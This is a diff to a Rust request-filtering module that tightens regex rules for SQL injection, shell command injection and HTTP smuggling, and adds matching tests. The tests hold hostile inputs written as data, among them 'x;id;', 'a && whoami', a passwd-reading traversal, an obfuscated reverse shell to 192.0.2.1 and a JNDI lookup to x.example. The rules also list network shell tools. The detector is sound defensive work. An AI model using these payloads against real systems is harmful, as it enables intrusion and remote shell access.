@@ -59,6 +59,8 @@ static SQL: LazyLock<RegexSet> = LazyLock::new(|| {
         r"\b(substr|substring|extractvalue|updatexml|group_concat|concat_ws|load_file|unhex|char|chr|ascii|ord|mid|name_const|make_set|elt|json_extract|unistr|utl_inaddr\.\w+|sys_context|current_setting|version|database|schema|current_user|session_user|system_user|user_name|db_name|is_srvrolemember|sleep|benchmark|pg_sleep)\s*\(",
         r"\bcreate\s+(table|database|user|function|procedure|view|index|trigger)\b|\b(drop|truncate|alter)\s+(table|database|user|view)\b",
         r"\bwaitfor\s+(delay|time)\b",
+        r"\bexec(ute)?\s*(\(\s*@|@|master\.|xp_\w+|sp_\w+)",
+        r"\bgroup\s+by\s+[\w.,\s]{1,60}\bhaving\s+(count|sum|avg|min|max)\s*\(",
         r"::\s*(bool|boolean|int|integer|text|json|jsonb|varchar|regclass)\b",
         r#"['"]\s*(<@|@>|\?\||\?&|#>>?)\s*['"]"#,
         r#"['"`]\s*(--|#|/\*)"#,
@@ -109,18 +111,42 @@ static TRAVERSAL: LazyLock<RegexSet> = LazyLock::new(|| {
     .expect("valid traversal rules")
 });
 
-const COMMANDS: &str = r"(cat|tac|head|tail|ls|dir|id|whoami|uname|hostname|ifconfig|ipconfig|netstat|ps|wget|curl|nc|ncat|netcat|telnet|ssh|scp|rsync|bash|sh|zsh|ksh|csh|dash|python\d?|perl|ruby|php|node|lua|ping|nslookup|dig|rm|chmod|chown|chattr|mkfifo|mknod|echo|printf|env|powershell|pwsh|cmd|certutil|bitsadmin|reg|kill|pkill|killall|crontab|base64|xxd|grep|awk|sed|touch|cp|mv|tftp|ftp|sudo|su|visudo|vi|vim|nano|nohup|eval|exec|systeminfo|tasklist|wmic|cscript|wscript|rundll32|regsvr32|mshta|getent|whereis|locate|uptime|passwd|useradd|usermod|openssl|socat|nmap|tcpdump|strace|dd|mount|iptables|systemctl|shutdown|reboot|halt|gcc|chsh|lsof|sudoedit|xterm|busybox)";
+/// Commands that no prose or course title starts with: flagged at the start of a value or
+/// after a shell separator, whatever follows.
+const TOOL_COMMANDS: &str = r"(whoami|uname|ifconfig|ipconfig|netstat|ncat|netcat|nslookup|chmod|chown|chattr|mkfifo|mknod|powershell|pwsh|certutil|bitsadmin|pkill|killall|crontab|base64|xxd|tftp|sudo|visudo|nohup|systeminfo|tasklist|wmic|cscript|wscript|rundll32|regsvr32|mshta|getent|whereis|useradd|usermod|socat|nmap|tcpdump|strace|iptables|systemctl|chsh|lsof|sudoedit|xterm|busybox|wget|printf|uptime|hostname|telnet|rsync|zsh|ksh|csh|lastlog|aptitude|bcdboot|cscli|bsdtar|iex|iwr|invoke-(webrequest|expression|command)|ansible(-[a-z]+)?|chef-[a-z]+)";
+
+/// Commands that are also English words or course topics ("Head of Sales (EMEA)", "Python
+/// (beginner)", "Cat & dog"): flagged only where a shell would run them — with a shell-like
+/// argument (an option, a path, `VAR=`, a file name), alone before a separator, or after
+/// `&&`, `||`, `$(` or a backtick.
+const WORD_COMMANDS: &str = r"(cat|tac|head|tail|ls|dir|id|ps|echo|env|kill|touch|cp|mv|su|reg|dd|locate|mount|halt|shutdown|reboot|ping|dig|nc|rm|sh|bash|dash|vi|vim|nano|node|lua|eval|exec|passwd|cmd|ftp|ssh|scp|curl|grep|awk|sed|python\d?(\.\d+)?|perl|ruby|php|gcc|openssl|cd|who)";
+
+/// What runs a command on its own: the start of a value or a shell separator, then prefixes
+/// that run the command after them (`time sh -c ...`).
+const COMMAND_POSITION: &str =
+    r"(^|[;&|\n\r(]|\$\(|\|\||&&)\s*((time|nohup|strace|sudo|env|exec|command)\s+)*";
+
+/// An argument only a shell command line has.
+const SHELL_ARGUMENT: &str =
+    r"\s+(-{1,2}[a-z]|[/~$\\]|\.{1,2}/|\w+=|[\w.-]*[/\\]|[\w-]+\.[a-z0-9]{1,5}(\s|$|[;&|<>]))";
 
 static COMMAND: LazyLock<RegexSet> = LazyLock::new(|| {
     RegexSet::new([
-        format!(r"(^|[;&|\n\r(]|\$\(|\|\||&&)\s*{COMMANDS}(\s|$|[;&|<>`)'\x22]|\.exe)"),
-        format!(r"\$\(\s*{COMMANDS}\b"),
-        format!(r"(^|[^`])`\s*{COMMANDS}\b[^`\n]*`([^`]|$)"),
+        format!(r"{COMMAND_POSITION}{TOOL_COMMANDS}(\s|$|[;&|<>`)'\x22]|\.exe)"),
+        format!(r"{COMMAND_POSITION}{WORD_COMMANDS}({SHELL_ARGUMENT}|\.exe\b)"),
+        format!(r"(;|&&|\|\|)\s*{WORD_COMMANDS}\s*($|[;&|<>`'\x22])"),
+        // After a pipe, but not a markdown table's cell (`| Head |`).
+        format!(r"\|\s*{WORD_COMMANDS}\s*($|[;&<>`'\x22])"),
+        format!(r"(&&|\|\|)\s*\(?\s*{WORD_COMMANDS}\b"),
+        // Process substitution: `<(cmd)`, `>(tee log)`.
+        format!(r"[<>]\(\s*({TOOL_COMMANDS}|{WORD_COMMANDS})\b"),
+        format!(r"\$\(\s*({TOOL_COMMANDS}|{WORD_COMMANDS})\b"),
+        format!(r"(^|[^`])`\s*({TOOL_COMMANDS}|{WORD_COMMANDS})\b[^`\n]*`([^`]|$)"),
         r"\$\{ifs\}|\$ifs\b|\{[a-z]+,[^}]*\}".to_string(),
         r"/(usr/)?(s?bin)/\w+".to_string(),
         r"\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;".to_string(),
         r"\b(nc|ncat|netcat)\s+(-\w+\s+)*[\w.]+\s+\d+".to_string(),
-        r"\b(bash|sh)\s+-[ic]\b|>\s*&\s*/dev/(tcp|udp)/|/dev/(tcp|udp)/".to_string(),
+        r"\b(bash|sh)\s+-[ic]\b|>\s*&\s*/dev/(tcp|udp)/|/dev/(tcp|udp)/|\$\w+/(tcp|udp)/\d".to_string(),
         r"\bcmd(\.exe)?\s+/[ck]\b|\bpowershell(\.exe)?\s+(-|/)\w+".to_string(),
         r"\b(wget|curl)\s+(-\w+\s+)*https?://".to_string(),
         r"[;&|]\s*\w+\s*=\s*\$\(".to_string(),
@@ -149,7 +175,7 @@ static TEMPLATE: LazyLock<RegexSet> = LazyLock::new(|| {
 });
 
 static PROTOCOL: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"[\r\n]\s*[\w-]{2,40}\s*:|[\r\n]\s*(get|post|put|delete|head|options)\s+/|\bhttp/1\.[01]\s*[\r\n]").expect("valid rule")
+    Regex::new(r"[\r\n]\s*[\w-]{2,40}\s*:|[\r\n]\s*(get|post|put|delete|head|options|patch|trace|connect)\s+(/|https?://)|\bhttp/1\.[01]\s*[\r\n]").expect("valid rule")
 });
 
 static RESTRICTED: LazyLock<Regex> = LazyLock::new(|| {
@@ -328,6 +354,15 @@ mod tests {
             ("${jndi:ldap://x.example/a}", Rule::TemplateInjection),
             ("{{''.__class__.__mro__}}", Rule::TemplateInjection),
             ("COPY t TO PROGRAM 'curl evil'", Rule::SqlCopyProgram),
+            ("ls -la /tmp", Rule::CommandInjection),
+            ("x;id;", Rule::CommandInjection),
+            ("a && whoami", Rule::CommandInjection),
+            ("echo $PATH", Rule::CommandInjection),
+            ("cd /;cd etc;column passwd", Rule::CommandInjection),
+            ("<(cat file)", Rule::CommandInjection),
+            ("d=/dev&&(sh)0>$d/tcp/192.0.2.1/777", Rule::CommandInjection),
+            ("exec (@x)", Rule::Sqli),
+            ("SELECT x GROUP BY y HAVING COUNT(id) >= 9", Rule::Sqli),
         ] {
             assert!(rules(v).contains(&rule), "{v:?}: {:?}", rules(v));
         }
@@ -411,6 +446,20 @@ mod tests {
             "Let's meet at 5pm; bring the slides & notes",
             "He said \"hello\" and left",
             "50% of users (or fewer) completed it",
+            // Command names that are words or course topics, where no shell would run them.
+            "Head of Sales (EMEA)",
+            "Cat & dog training",
+            "echo chamber (podcast)",
+            "touch base (weekly)",
+            "kill switch & fallback",
+            "env (staging)",
+            "Pets (cat) allowed",
+            "| Head | Count |\n| --- | --- |\n| ID | 3 |",
+            "Python (beginner) course",
+            "Bash scripting (part 2)",
+            "Curl your hair & shine",
+            "It's late; time to go",
+            "Ready; set; go!",
         ] {
             assert!(rules(v).is_empty(), "{v:?}: {:?}", rules(v));
         }
